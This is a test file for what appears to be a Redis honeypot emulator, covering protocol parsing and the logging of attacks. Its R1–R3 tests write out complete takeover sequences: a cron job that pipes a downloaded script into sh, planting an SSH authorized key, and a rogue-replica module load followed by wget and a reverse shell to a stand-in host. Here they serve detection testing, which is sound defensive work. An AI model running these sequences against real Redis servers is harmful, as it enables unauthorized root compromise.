import { describe, expect, it } from 'vitest';
import { bodyOf, meet, play, type Stage } from '../play.ts';
import { redis } from './redis.ts';
import { splitInline } from './redis-protocol.ts';

const resp = (...words: string[]) =>
  `*${words.length}\r\n${words.map((word) => `$${word.length}\r\n${word}\r\n`).join('')}`;

async function ask(lines: string[], stage: Stage = {}) {
  const talk = meet(redis, stage);
  const answers: string[] = [];
  for (const line of lines) if (!talk.over) answers.push(await talk.say(line));
  await talk.leave();
  expect(talk.faults).toEqual([]);
  const bodies = talk.events.map(bodyOf).filter(({ kind }) => kind !== 'connect' && kind !== 'close');
  return { answers, bodies, talk };
}

describe('the protocol', () => {
  it.each<[string, string]>([
    ['PING\r\n', '+PONG\r\n'],
    ['PING', ''],
    ['*1\r\n$4\r\nPING\r\n', '+PONG\r\n'],
    ['*-1\r\nPING\r\n', '+PONG\r\n'],
    ['*0\r\nPING\r\n', '+PONG\r\n'],
    ['\r\nPING\r\n', '+PONG\r\n'],
    ['*1\r\nxx\r\n', "-ERR Protocol error: expected '$', got 'x'\r\n"],
    ['*9999999999\r\n', '-ERR Protocol error: invalid multibulk length\r\n'],
    ['*1048577\r\n', '-ERR Protocol error: invalid multibulk length\r\n'],
    ['*a\r\n', '-ERR Protocol error: invalid multibulk length\r\n'],
    ['*1\r\n$99999999999\r\n', '-ERR Protocol error: invalid bulk length\r\n'],
    ["set a 'b\r\n", '-ERR Protocol error: unbalanced quotes in request\r\n'],
    ['foo bar\r\n', '-ERR unknown command `foo`, with args beginning with: `bar`, \r\n'],
    ['GET\r\n', "-ERR wrong number of arguments for 'get' command\r\n"],
    ['SELECT 99\r\n', '-ERR DB index is out of range\r\n'],
    ['HELLO 9\r\n', '-NOPROTO unsupported protocol version\r\n'],
    ['CONFIG SET foo bar\r\n', '-ERR Unsupported CONFIG parameter: foo\r\n'],
    ['system.exec id\r\n', '-ERR unknown command `system.exec`, with args beginning with: `id`, \r\n'],
    ['POST / HTTP/1.1\r\nPING\r\n', ''],
    ['Host: x\r\nPING\r\n', ''],
  ])('%j', async (bytes, answer) => {
    expect((await ask([bytes])).answers.join('')).toBe(answer);
  });

  it('is told what HTTP was spoken to it, as words that may be a third party’s', async () => {
    const { talk } = await ask(['POST / HTTP/1.1\r\nHost: x\r\n\r\nFLUSHALL\r\n']);
    expect(talk.events.map(({ handshake }) => handshake)).toEqual(talk.events.map(() => 'relayed'));
    expect(talk.events.at(-1)).toMatchObject({ kind: 'close', reason: 'server' });
  });

  it('reads words cut anywhere', async () => {
    const bytes = resp('SET', 'k', 'a\r\nb') + resp('GET', 'k');
    for (let cut = 1; cut < bytes.length; cut++) {
      expect((await ask([bytes.slice(0, cut), bytes.slice(cut)])).answers.join('')).toBe(
        '+OK\r\n$4\r\na\r\nb\r\n',
      );
    }
  });

  it('splits plain lines as Redis does', () => {
    expect(splitInline(" a  \"b c\\x41\\n\"  'd\\'e' ")).toEqual(['a', 'b cA\n', "d'e"]);
    expect(splitInline('"a"b')).toBeNull();
  });
});

describe('R1 to R3: how it is taken over', () => {
  it('R1: writes a crontab', async () => {
    const cron = '\n\n*/2 * * * * root cd1 -fsSL http://192.0.2.9/b.sh | sh\n\n';
    const { answers, bodies, talk } = await ask([
      resp('INFO'),
      resp('config', 'set', 'dbfilename', 'backup.db'),
      resp('save'),
      resp('config', 'set', 'stop-writes-on-bgsave-error', 'no'),
      resp('flushall'),
      resp('set', 'backup1', cron),
      resp('config', 'set', 'dir', '/var/spool/cron/'),
      resp('config', 'set', 'dbfilename', 'root'),
      resp('config', 'get', 'dir'),
      resp('save'),
    ]);
    expect(answers[0]).toMatch(/\r\nredis_version:6\.0\.16\r\n[\s\S]*\r\nos:Linux /);
    expect(answers.slice(1).join('')).toBe(
      `${'+OK\r\n'.repeat(7)}*2\r\n$3\r\ndir\r\n$16\r\n/var/spool/cron/\r\n+OK\r\n`,
    );
    expect(bodies.filter(({ kind }) => kind === 'download')).toMatchObject([
      { url: 'http://192.0.2.9/b.sh', tool: 'cd1' },
    ]);
    const uploads = bodies.filter(({ kind }) => kind === 'upload');
    expect(uploads).toMatchObject([{ name: '/var/spool/cron/root', size: cron.length }]);
    expect([...talk.payloads.values()][0]!.toString()).toBe(cron);
  });

  it('R2: writes a key, remembered by the next connection', async () => {
    const first = await ask([
      resp('SET', 'x', '\n\nssh-rsa AAAA me\n\n'),
      resp('CONFIG', 'SET', 'dir', '/root/.ssh'),
    ]);
    const second = await ask(
      [resp('GET', 'x'), resp('CONFIG', 'SET', 'dbfilename', 'authorized_keys'), resp('BGSAVE')],
      { memory: first.talk.memory },
    );
    expect(second.answers).toEqual([
      '$19\r\n\n\nssh-rsa AAAA me\n\n\r\n',
      '+OK\r\n',
      '+Background saving started\r\n',
    ]);
    expect(second.bodies.at(-1)).toMatchObject({ kind: 'upload', name: '/root/.ssh/authorized_keys' });
  });

  it('R3: becomes a replica, loads a module, runs a command', async () => {
    const lines = [
      'SLAVEOF 192.0.2.5 21000',
      'MODULE LOAD ./exp.so',
      'system.exec "id; wget http://192.0.2.5/x"',
      'system.rev 192.0.2.5 4444',
      'SLAVEOF NO ONE',
      'QUIT',
    ];
    expect(await play(redis, lines)).toEqual([
      '> SLAVEOF 192.0.2.5 21000',
      '< +OK\\r\\n',
      '! command {"input":"SLAVEOF 192.0.2.5 21000","ok":true}',
      '! forward {"host":"192.0.2.5","port":21000,"detail":{"how":"replication"}}',
      '> MODULE LOAD ./exp.so',
      '< +OK\\r\\n',
      '! command {"input":"MODULE LOAD ./exp.so","ok":true}',
      '! data {"size":0,"detail":{"module":"./exp.so"}}',
      '> system.exec "id; wget http://192.0.2.5/x"',
      '< $49\\r\\n',
      '< uid=0(root) gid=0(root) groups=0(root),10(wheel)\\n',
      '< \\r\\n',
      '! command {"input":"system.exec \\"id; wget http://192.0.2.5/x\\"","ok":true}',
      '! download {"url":"http://192.0.2.5/x","tool":"wget","name":"x"}',
      '> system.rev 192.0.2.5 4444',
      '< +OK\\r\\n',
      '! command {"input":"system.rev 192.0.2.5 4444","ok":true}',
      '! forward {"host":"192.0.2.5","port":4444,"detail":{"how":"reverse shell"}}',
      '> SLAVEOF NO ONE',
      '< +OK\\r\\n',
      '! command {"input":"SLAVEOF NO ONE","ok":true}',
      '> QUIT',
      '< +OK\\r\\n',
      '! command {"input":"QUIT","ok":true}',
    ]);
  });

  it('holds no more than its budget, and says so as Redis does', async () => {
    const { answers } = await ask([
      resp('PING'),
      ...Array.from({ length: 5_000 }, (_, i) => resp('SET', `k${i}`, 'v')),
    ]);
    expect(answers.filter((one) => one === '+OK\r\n').length).toBe(4_096);
    expect(answers.at(-1)).toMatch(/^-OOM/);
  });
});
